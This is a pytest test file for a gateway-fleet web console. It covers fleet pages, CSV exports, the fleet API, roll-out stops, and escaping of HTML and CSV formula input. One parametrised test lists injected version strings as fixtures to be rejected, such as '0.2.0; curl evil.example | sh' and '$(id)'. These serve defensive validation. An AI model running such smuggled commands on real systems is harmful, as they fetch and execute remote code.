"""The page of the fleet, its CSV and ``/api/fleet``; roll-outs and their stop."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from edge_agent.cli.main import main
from edge_central.fleet.published import read_releases
from edge_central.settings import Database
from edge_central.store import tables
from edge_central.store.presence_reports import GatewayReport, PresenceState
from edge_central.web.auth.accounts import Role
from edge_update.manifest import place_of
from tests.edge_central.parts import WARD, FakeGateway
from tests.edge_central.prepared import configured
from tests.edge_central.rehearsals.parts import CAMERA, document, store_rules
from tests.edge_central.web.house import House
from tests.edge_central.web.test_contract import valid
from tests.edge_central.web.test_traffic_pages import text_of

OURS, OTHER, THEIRS = FakeGateway("dt-001"), FakeGateway("dt-009"), FakeGateway("bx-001", "bo-xuyen")
SHEET = (
    "site;ward;name;camera;camera_name\n"
    "dt-001;de-tham;Lê Quý Đôn;cam-1;Cổng\n"
    "dt-001;de-tham;;cam-2;=Sân\n"
    "dt-002;de-tham;=Trần Hưng Đạo;cam-1;Cổng\n"
    "bx-001;bo-xuyen;Quang Trung;cam-1;Cổng\n"
)
HEALTH: dict[str, Any] = {
    "version": "0.1.0",
    "config_hash": "ab" * 32,
    "config": {"version": 3, "origin": "pushed", "given_up": "version 4: no broker"},
    "certificates": {"client_days": 12, "ca_days": 900},
    "uplink": {"monthly_bytes": 1000, "used_bytes": 800, "forecast_bytes": 1300},
}


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    with filled(tmp_path) as built:
        yield built.start()


def filled(folder: Path, database: str = "sqlite") -> House:
    sheet = folder / "sites.csv"
    sheet.write_text(SHEET, encoding="utf-8")
    built = House(folder, database=database, sites_file=str(sheet))
    built.take(
        OURS.heartbeat("s", **HEALTH),
        OTHER.heartbeat("s", version="0.2.0"),
        THEIRS.heartbeat("s", version="0.2.0"),
    )
    for box, state in ((OURS, PresenceState.ONLINE), (OTHER, PresenceState.OFFLINE)):
        built.tell(GatewayReport(box.id, box.ward, state, "will", built.now_ms()))
    return built


def rows_of(html: str) -> list[str]:
    """The text of each row, in order."""
    table = html[html.index('<table class="fleet"') :]
    body = table[table.index("<tbody>") : table.index("</tbody>")]
    return [" ".join(re.sub(r"<[^>]+>", " ", row).split()) for row in body.split("</tr>")[:-1]]


def test_page_csv_and_api_show_the_same_on_both_databases(database: Database, tmp_path: Path) -> None:
    with filled(tmp_path, configured(database)).start() as house:
        browser = house.login("lan", Role.OFFICER, WARD, lang="en")
        page = browser.get("/fleet").text
        offline, never, ours = rows_of(page)
        assert offline.startswith("dt-009 dt-009 de-tham Offline")
        assert "Not in the sheet" in offline
        assert never.startswith("=Trần Hưng Đạo dt-002")
        assert "In the sheet, never connected" in never
        assert "0.1.0 abababab pushed" in ours
        assert "12 80% used, forecast 130%" in ours
        assert "Cameras of the sheet are missing: cam-2" in ours
        assert "Another version than the fleet: 0.2.0" in ours
        assert "Went back from a new configuration: version 4: no broker" in ours
        assert "bx-001" not in page, "of another ward"
        lines = list(
            csv.DictReader(io.StringIO(browser.get("/fleet/gateways.csv").text.removeprefix("\ufeff")))
        )
        assert [line["Gateway"] for line in lines] == ["dt-009", "dt-002", "dt-001"]
        assert lines[1]["Site"] == "'=Trần Hưng Đạo", "no formula"
        assert (lines[2]["Certificate (days)"], lines[2]["Forecast (bytes)"]) == ("12", "1300")
        client = house.program(house.token("app", WARD))
        document = valid(client.get("/api/fleet"), "FleetDocument")
        assert document["wanted_version"] == "0.2.0"
        assert [each["id"] for each in document["gateways"]] == ["dt-009", "dt-002", "dt-001"]
        assert document["gateways"][2]["deviations"][0] == {"kind": "camera-missing", "detail": "cam-2"}
        assert client.get("/api/fleet", params={"ward": "bo-xuyen"}).status_code == 404
        assert client.get("/api/fleet", params={"wrad": WARD}).status_code == 400


FILTERED = {
    "ward=bo-xuyen": ["bx-001"],
    "state=offline": ["dt-009"],
    "version=0.1.0": ["dt-001"],
    "differs=never-connected": ["dt-002"],
    "differs=any": ["dt-001", "dt-002", "dt-009"],
    "expiring=1": ["dt-001"],
    "exceeding=1": ["dt-001"],
    "version=%3Cscript%3E": [],
    "page=99999999": ["bx-001", "dt-001", "dt-002", "dt-009"],
}


def test_filters_select_rows(house: House) -> None:
    browser = house.login("minh", Role.ADMIN)
    for query, expected in FILTERED.items():
        lines = browser.get(f"/fleet/gateways.csv?{query}").text.splitlines()[1:]
        assert sorted(line.split(",")[0] for line in lines) == expected, query
        page = browser.get(f"/fleet?{query}")
        assert page.status_code == 200
        assert "<script>" not in page.text


def test_a_rule_changed_by_a_command_is_a_difference_on_both_databases(
    database: Database, tmp_path: Path
) -> None:
    odd: Any = {"changed": ["night", 5, "<b>"]}
    with filled(tmp_path, configured(database)) as house:
        with house.connections.writing() as connection:
            store_rules(connection, payload=document(CAMERA | odd))
            store_rules(connection, "dt-009")
            store_rules(connection, "bx-001", "bo-xuyen", b'{"cameras":{"cam-1":[]}}')
        house.start()
        for name, role in (("lan", Role.OFFICER), ("tuong", Role.VIEWER)):
            house.person(name, role, WARD)
            browser = house.browser(name, lang="en")
            page = browser.get("/fleet?differs=rule-changed").text
            (row,) = rows_of(page)
            assert "A rule was changed by a command: cam-1/night" in row
            assert ('href="/sites/dt-001/cameras/cam-1/rules"' in page) == (role is Role.OFFICER)
            assert re.search(r"changed by a command</dt><dd><a [^>]+><b>1<", page)
        with house.connections.writing() as connection:
            taken_back = {"document": document(), "received_ms": 1}
            connection.execute(tables.camera_rules.update().values(**taken_back))
        assert rows_of(browser.get("/fleet?differs=rule-changed").text) == ["No gateway matches."]
        found = valid(house.program(house.token("app", WARD)).get("/api/fleet"), "FleetDocument")
        assert all(each["kind"] != "rule-changed" for row in found["gateways"] for each in row["deviations"])


def test_masks_changed_by_a_command_are_a_difference_too(tmp_path: Path) -> None:
    masks = {"masks": [], "configured_masks": {"masks": [], "privacy_masks": []}}
    with filled(tmp_path) as house:
        with house.connections.writing() as connection:
            store_rules(connection, payload=document(CAMERA | masks))
        house.start()
        browser = house.login("lan", Role.OFFICER, WARD)
        for lang, says in (("en", "Masks were changed by a command"), ("vi", "Có phần hình bị che đã đổi")):
            browser.get(f"/language/{lang}")
            page = browser.get("/fleet?differs=masks-changed").text
            (row,) = rows_of(page)
            assert says in row
            assert 'href="/sites/dt-001/cameras/cam-1/rules"' in page
        assert rows_of(browser.get("/fleet?differs=rule-changed").text) != [row]
        found = valid(house.program(house.token("app", WARD)).get("/api/fleet"), "FleetDocument")
        kinds = [each for row in found["gateways"] for each in row["deviations"] if "masks" in each["kind"]]
        assert [(each["kind"], each["detail"]) for each in kinds] == [("masks-changed", "cam-1")]


ROLLOUT_WORDS = {
    "vi": ("Đang triển khai", "Đợt Bắt đầu lúc", "Đã quay về bản cũ", "Dừng triển khai"),
    "en": ("Goes on", "Batch Begun", "Went back", "Stop the roll-out"),
}


def test_a_stop_in_the_console_refuses_the_next_batch(
    house: House, capsys: pytest.CaptureFixture[str]
) -> None:
    def central(*arguments: str) -> int:
        return main(["central", "rollout", *arguments, "--config", str(house.config)])

    assert central("begin", "0.2.0", "--gateways", "3", "--by", "an", "--json") == 0
    assert capsys.readouterr().out == '{"id":1}\n'
    assert central("batch", "0.2.0", "--run", "1", "--gateway", "dt-001") == 0
    minh = house.login("minh", Role.ADMIN)
    lan = house.login("lan", Role.OFFICER, WARD)
    minh.get("/language/en")
    fleet = minh.get("/fleet").text
    assert "Release 0.2.0 is being rolled out. Batches that have begun: 1" in fleet
    assert '<a href="/fleet/rollouts">Roll-outs</a>' in fleet, "also while one goes on"
    for lang, words in ROLLOUT_WORDS.items():
        for browser in (minh, lan):
            browser.get(f"/language/{lang}")
        page = text_of(minh.get("/fleet/rollouts").text)
        assert all(word in page for word in words)
        assert words[-1] not in lan.get("/fleet/rollouts").text
    assert 'href="/fleet/rollouts"' in lan.get("/fleet").text
    stop = {"why": "hình tối"}
    assert lan.post("/fleet/rollouts/1/stop", stop).status_code == 403
    assert minh.post("/fleet/rollouts/1/stop", {"why": " "}).status_code == 400
    assert minh.post("/fleet/rollouts/1/stop", stop, page="/fleet/rollouts").status_code == 303
    assert minh.post("/fleet/rollouts/1/stop", stop, page="/fleet/rollouts").status_code == 409
    assert "hình tối" in minh.get("/fleet/rollouts").text
    assert "0.2.0" in minh.get("/access?kind=commands").text
    assert central("batch", "0.2.0", "--gateway", "dt-002") == 1
    assert "was stopped by minh: hình tối" in capsys.readouterr().err
    assert central("list") == 0
    assert "roll-out 1 of 0.2.0: stopped by minh, 1 batches, 1 of 3 gateways" in capsys.readouterr().out
    assert central("begin", "0.2.0", "--gateways", "2", "--by", "binh") == 0
    assert "roll-out 2 to 2 gateways begins" in capsys.readouterr().out
    assert central("batch", "0.2.0", "--run", "1", "--gateway", "dt-002") == 1, "the stop is not lost"
    assert central("failed", "0.2.0", "--run", "2", "--gateway", "dt-002", "--reason", "x") == 0
    assert central("stop", "--by", "an") == 1


def test_without_a_sheet_the_page_says_that_nothing_is_compared(tmp_path: Path) -> None:
    with House(tmp_path).start() as house:
        house.take(OURS.heartbeat("s", version="0.1.0"))
        browser = house.login("minh", Role.ADMIN, lang="en")
        page = browser.get("/fleet").text
        assert "There is no sheet (sites_file) to compare with." in page
        assert "Not in the sheet" not in rows_of(page)[0]


def test_the_share_of_a_published_release_is_that_of_the_gateways(tmp_path: Path) -> None:
    manifest, broken = tmp_path / "manifest.json", tmp_path / "broken.json"
    manifest.write_text('{"version": "0.2.0", "serial": 1795698000, "percent": 50, "wheels": []}')
    broken.write_text('{"version": "<script>", "percent": 500}')
    boxes = [FakeGateway(f"dt-{number:03}") for number in range(1, 21)]
    sheet = tmp_path / "sites.csv"
    sheet.write_text("site;ward;ssh_host;camera\ndt-001;de-tham;10.0.0.1;cam-1\n", encoding="utf-8")
    files = [str(manifest), str(broken)]
    with House(tmp_path, release_manifests=files, sites_file=str(sheet)).start() as house:
        house.take(*(box.heartbeat("s", version="0.2.0" if box.id < "dt-010" else "0.1.0") for box in boxes))
        browser = house.login("minh", Role.ADMIN, lang="en")
        page = text_of(browser.get("/fleet/rollouts").text)
    share = [box.id for box in boxes[1:] if place_of("0.2.0", box.id) < 50]
    running = sum(each < "dt-010" for each in share)
    sizes = f"{len(share)} gateways, {running} run it. {19 - len(share)} are for later."
    assert f"For 50% of the gateways that pull: {sizes}" in page
    assert "--version 0.2.0 --key release.key --percent 0" in page
    assert 0 < running < len(share) < 19


@pytest.mark.parametrize("version", ["0.2.0; curl evil.example | sh", "$(id)", "0.2.0\n", "--key", ""])
def test_a_published_version_is_safe_in_a_command_to_copy(tmp_path: Path, version: str) -> None:
    """No signature was verified: whoever writes to the server of releases could name any version."""
    manifest = tmp_path / "manifest.json"
    manifest.write_text(json.dumps({"version": version, "serial": 1, "percent": 50}), encoding="utf-8")
    assert read_releases([manifest]) == ()
    manifest.write_text(json.dumps({"version": "0.2.0+b1", "serial": 1, "percent": 50}), encoding="utf-8")
    assert [each.version for each in read_releases([manifest])] == ["0.2.0+b1"]


def test_site_page_csv_and_api_show_what_the_cameras_are(tmp_path: Path) -> None:
    topic, payload = OURS.birth("s")
    identity = {
        "manufacturer": "Acme<script>",
        "model": "DS-2CD",
        "firmware": "V5.7.3 build 220112",
        "serial": "=AAWRJ00000001",
        "mac": "c0:56:e3:00:00:01",
    }
    birth = {**json.loads(payload), "cameras": [{"id": "cam-1", "identity": identity}]}
    with filled(tmp_path) as house:
        house.take((topic, json.dumps(birth).encode()))
        house.start()
        browser = house.login("lan", Role.OFFICER, WARD, lang="vi")
        page = browser.get("/sites/dt-001").text
        assert "Acme&lt;script&gt; DS-2CD · phiên bản firmware V5.7.3 build 220112" in page
        assert "số sê-ri =AAWRJ00000001 · MAC c0:56:e3:00:00:01" in page
        browser.get("/language/en")
        assert 'href="/fleet/cameras.csv"' in browser.get("/fleet").text
        text = browser.get("/fleet/cameras.csv?differs=any").text.removeprefix("\ufeff")
        rows = {(row["Gateway"], row["Camera"]): row for row in csv.DictReader(io.StringIO(text))}
        assert rows["dt-001", "cam-1"]["Serial number"] == "'=AAWRJ00000001", "no formula"
        assert rows["dt-001", "cam-1"]["Camera name"] == "Cổng"
        assert rows["dt-009", "cam-1"]["MAC"] == ""
        assert all(gateway != "bx-001" for gateway, _ in rows), "of another ward"
        client = house.program(house.token("app", WARD))
        gateways = valid(client.get("/api/inventory"), "Inventory")["gateways"]
        cameras = {found["id"]: found["cameras"] for found in gateways}
        assert {key: cameras["dt-001"][0][key] for key in identity} == identity
        assert cameras["dt-009"][0]["serial"] is None


def test_the_page_of_a_site_shows_its_modem(tmp_path: Path) -> None:
    modem = {
        "state": "connected",
        "registration": "roaming",
        "operator": "<b>Unitel",
        "technology": "LTE",
        "signal_percent": 67,
        "sent_bytes": 120_000_000,
        "received_bytes": 1_083_000_000,
    }
    with House(tmp_path) as house:
        house.take(OURS.heartbeat("s", modem=modem), THEIRS.heartbeat("s"))
        house.person("minh", Role.ADMIN)
        browser = house.start().browser("minh")
        shown, without = (browser.get(f"/sites/{each}").text for each in ("dt-001", "bx-001"))
    row = "đã kết nối · &lt;b&gt;Unitel (chuyển vùng) · LTE · sóng 67% · modem đếm được 1203 MB trong kỳ"
    assert row in shown
    assert "modem đếm được" not in without
